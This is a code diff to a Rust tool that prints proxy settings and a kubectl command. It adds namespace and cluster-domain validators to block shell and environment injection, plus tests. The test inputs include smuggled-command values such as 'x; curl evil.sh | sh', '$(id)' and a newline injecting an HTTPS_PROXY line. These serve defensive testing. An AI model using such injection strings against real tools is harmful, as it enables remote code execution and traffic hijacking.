@@ -46,14 +46,57 @@ pub fn check_proxy_url(url: &str) -> Result<(), String> {
         })
 }
 
+/// An RFC 1123 label as Kubernetes requires of namespace names: 1 to 63 lowercase letters, digits and '-',
+/// starting and ending with a letter or digit.
+fn is_label(s: &str) -> bool {
+    (1..=63).contains(&s.len())
+        && s.bytes()
+            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
+        && !s.starts_with('-')
+        && !s.ends_with('-')
+}
+
+/// Check `--namespace`: it is printed into a shell command, so only a Kubernetes namespace name passes.
+pub fn check_namespace(ns: &str) -> Result<(), String> {
+    if is_label(ns) {
+        Ok(())
+    } else {
+        Err(format!(
+            "--namespace {:?} is not a Kubernetes namespace name: 1 to 63 lowercase letters, digits and '-', \
+             starting and ending with a letter or digit (e.g. castai-agent)",
+            ns.escape_default().to_string()
+        ))
+    }
+}
+
+/// Check `--cluster-domain`: it becomes NO_PROXY entries (and a line of the printed environment), so only a
+/// DNS name of RFC 1123 labels passes: no ',', spaces, newlines or shell text.
+pub fn check_cluster_domain(domain: &str) -> Result<(), String> {
+    let name = domain.strip_suffix('.').unwrap_or(domain);
+    if name.len() <= 253 && name.split('.').all(is_label) {
+        Ok(())
+    } else {
+        Err(format!(
+            "--cluster-domain {:?} is not a DNS name: dot-separated labels of lowercase letters, digits and '-' \
+             (e.g. cluster.local; kubelet's clusterDomain)",
+            domain.escape_default().to_string()
+        ))
+    }
+}
+
 fn quote(v: &str) -> String {
     format!("'{}'", v.replace('\'', r"'\''"))
 }
 
 pub fn render(r: &Request) -> Result<String, String> {
     check_proxy_url(r.proxy_url)?;
+    check_cluster_domain(r.cluster_domain)?;
+    if let Some(ns) = r.namespace {
+        check_namespace(ns)?;
+    }
+    let cluster_domain = r.cluster_domain.trim_end_matches('.');
     let proxy = r.proxy_url.trim_end_matches('/');
-    let no_proxy = noproxy::suggest(r.pod_cidr, r.service_cidr, r.cluster_domain);
+    let no_proxy = noproxy::suggest(r.pod_cidr, r.service_cidr, cluster_domain);
     let vars = [
         ("HTTP_PROXY", proxy),
         ("HTTPS_PROXY", proxy),
@@ -192,6 +235,50 @@ mod tests {
         assert!(render(&req(p, "http://egressd:3128"))
             .unwrap()
             .contains("name no agent workloads"));
+    }
+
+    #[test]
+    fn namespace_and_cluster_domain_are_names() {
+        let p = vendors::find("castai-us").unwrap();
+        for ns in [
+            "x; curl evil.sh | sh",
+            "a b",
+            "$(id)",
+            "Castai",
+            "-x",
+            "x-",
+            "",
+            "a.b",
+            &"a".repeat(64),
+        ] {
+            let mut r = req(p, "http://egressd:3128");
+            r.namespace = Some(ns);
+            let e = render(&r).unwrap_err();
+            assert!(e.contains("--namespace"), "{ns:?}: {e}");
+        }
+        for domain in [
+            "cluster.local,evil.com",
+            "cluster.local\nHTTPS_PROXY=http://evil:3128",
+            "cluster.local evil.com",
+            "cluster..local",
+            "",
+            ".",
+            "*.local",
+            "cluster.local/x",
+            "$(id).local",
+        ] {
+            let mut r = req(p, "http://egressd:3128");
+            r.cluster_domain = domain;
+            let e = render(&r).unwrap_err();
+            assert!(e.contains("--cluster-domain"), "{domain:?}: {e}");
+            assert!(!e.contains('\n'), "the value is escaped: {e}");
+        }
+        let mut r = req(p, "http://egressd:3128");
+        r.namespace = Some("castai-agent");
+        r.cluster_domain = "k8s.example-corp.internal.";
+        let out = render(&r).unwrap();
+        assert!(out.contains(".k8s.example-corp.internal,"), "{out}");
+        assert!(out.contains("kubectl -n castai-agent set env"), "{out}");
     }
 
     #[test]
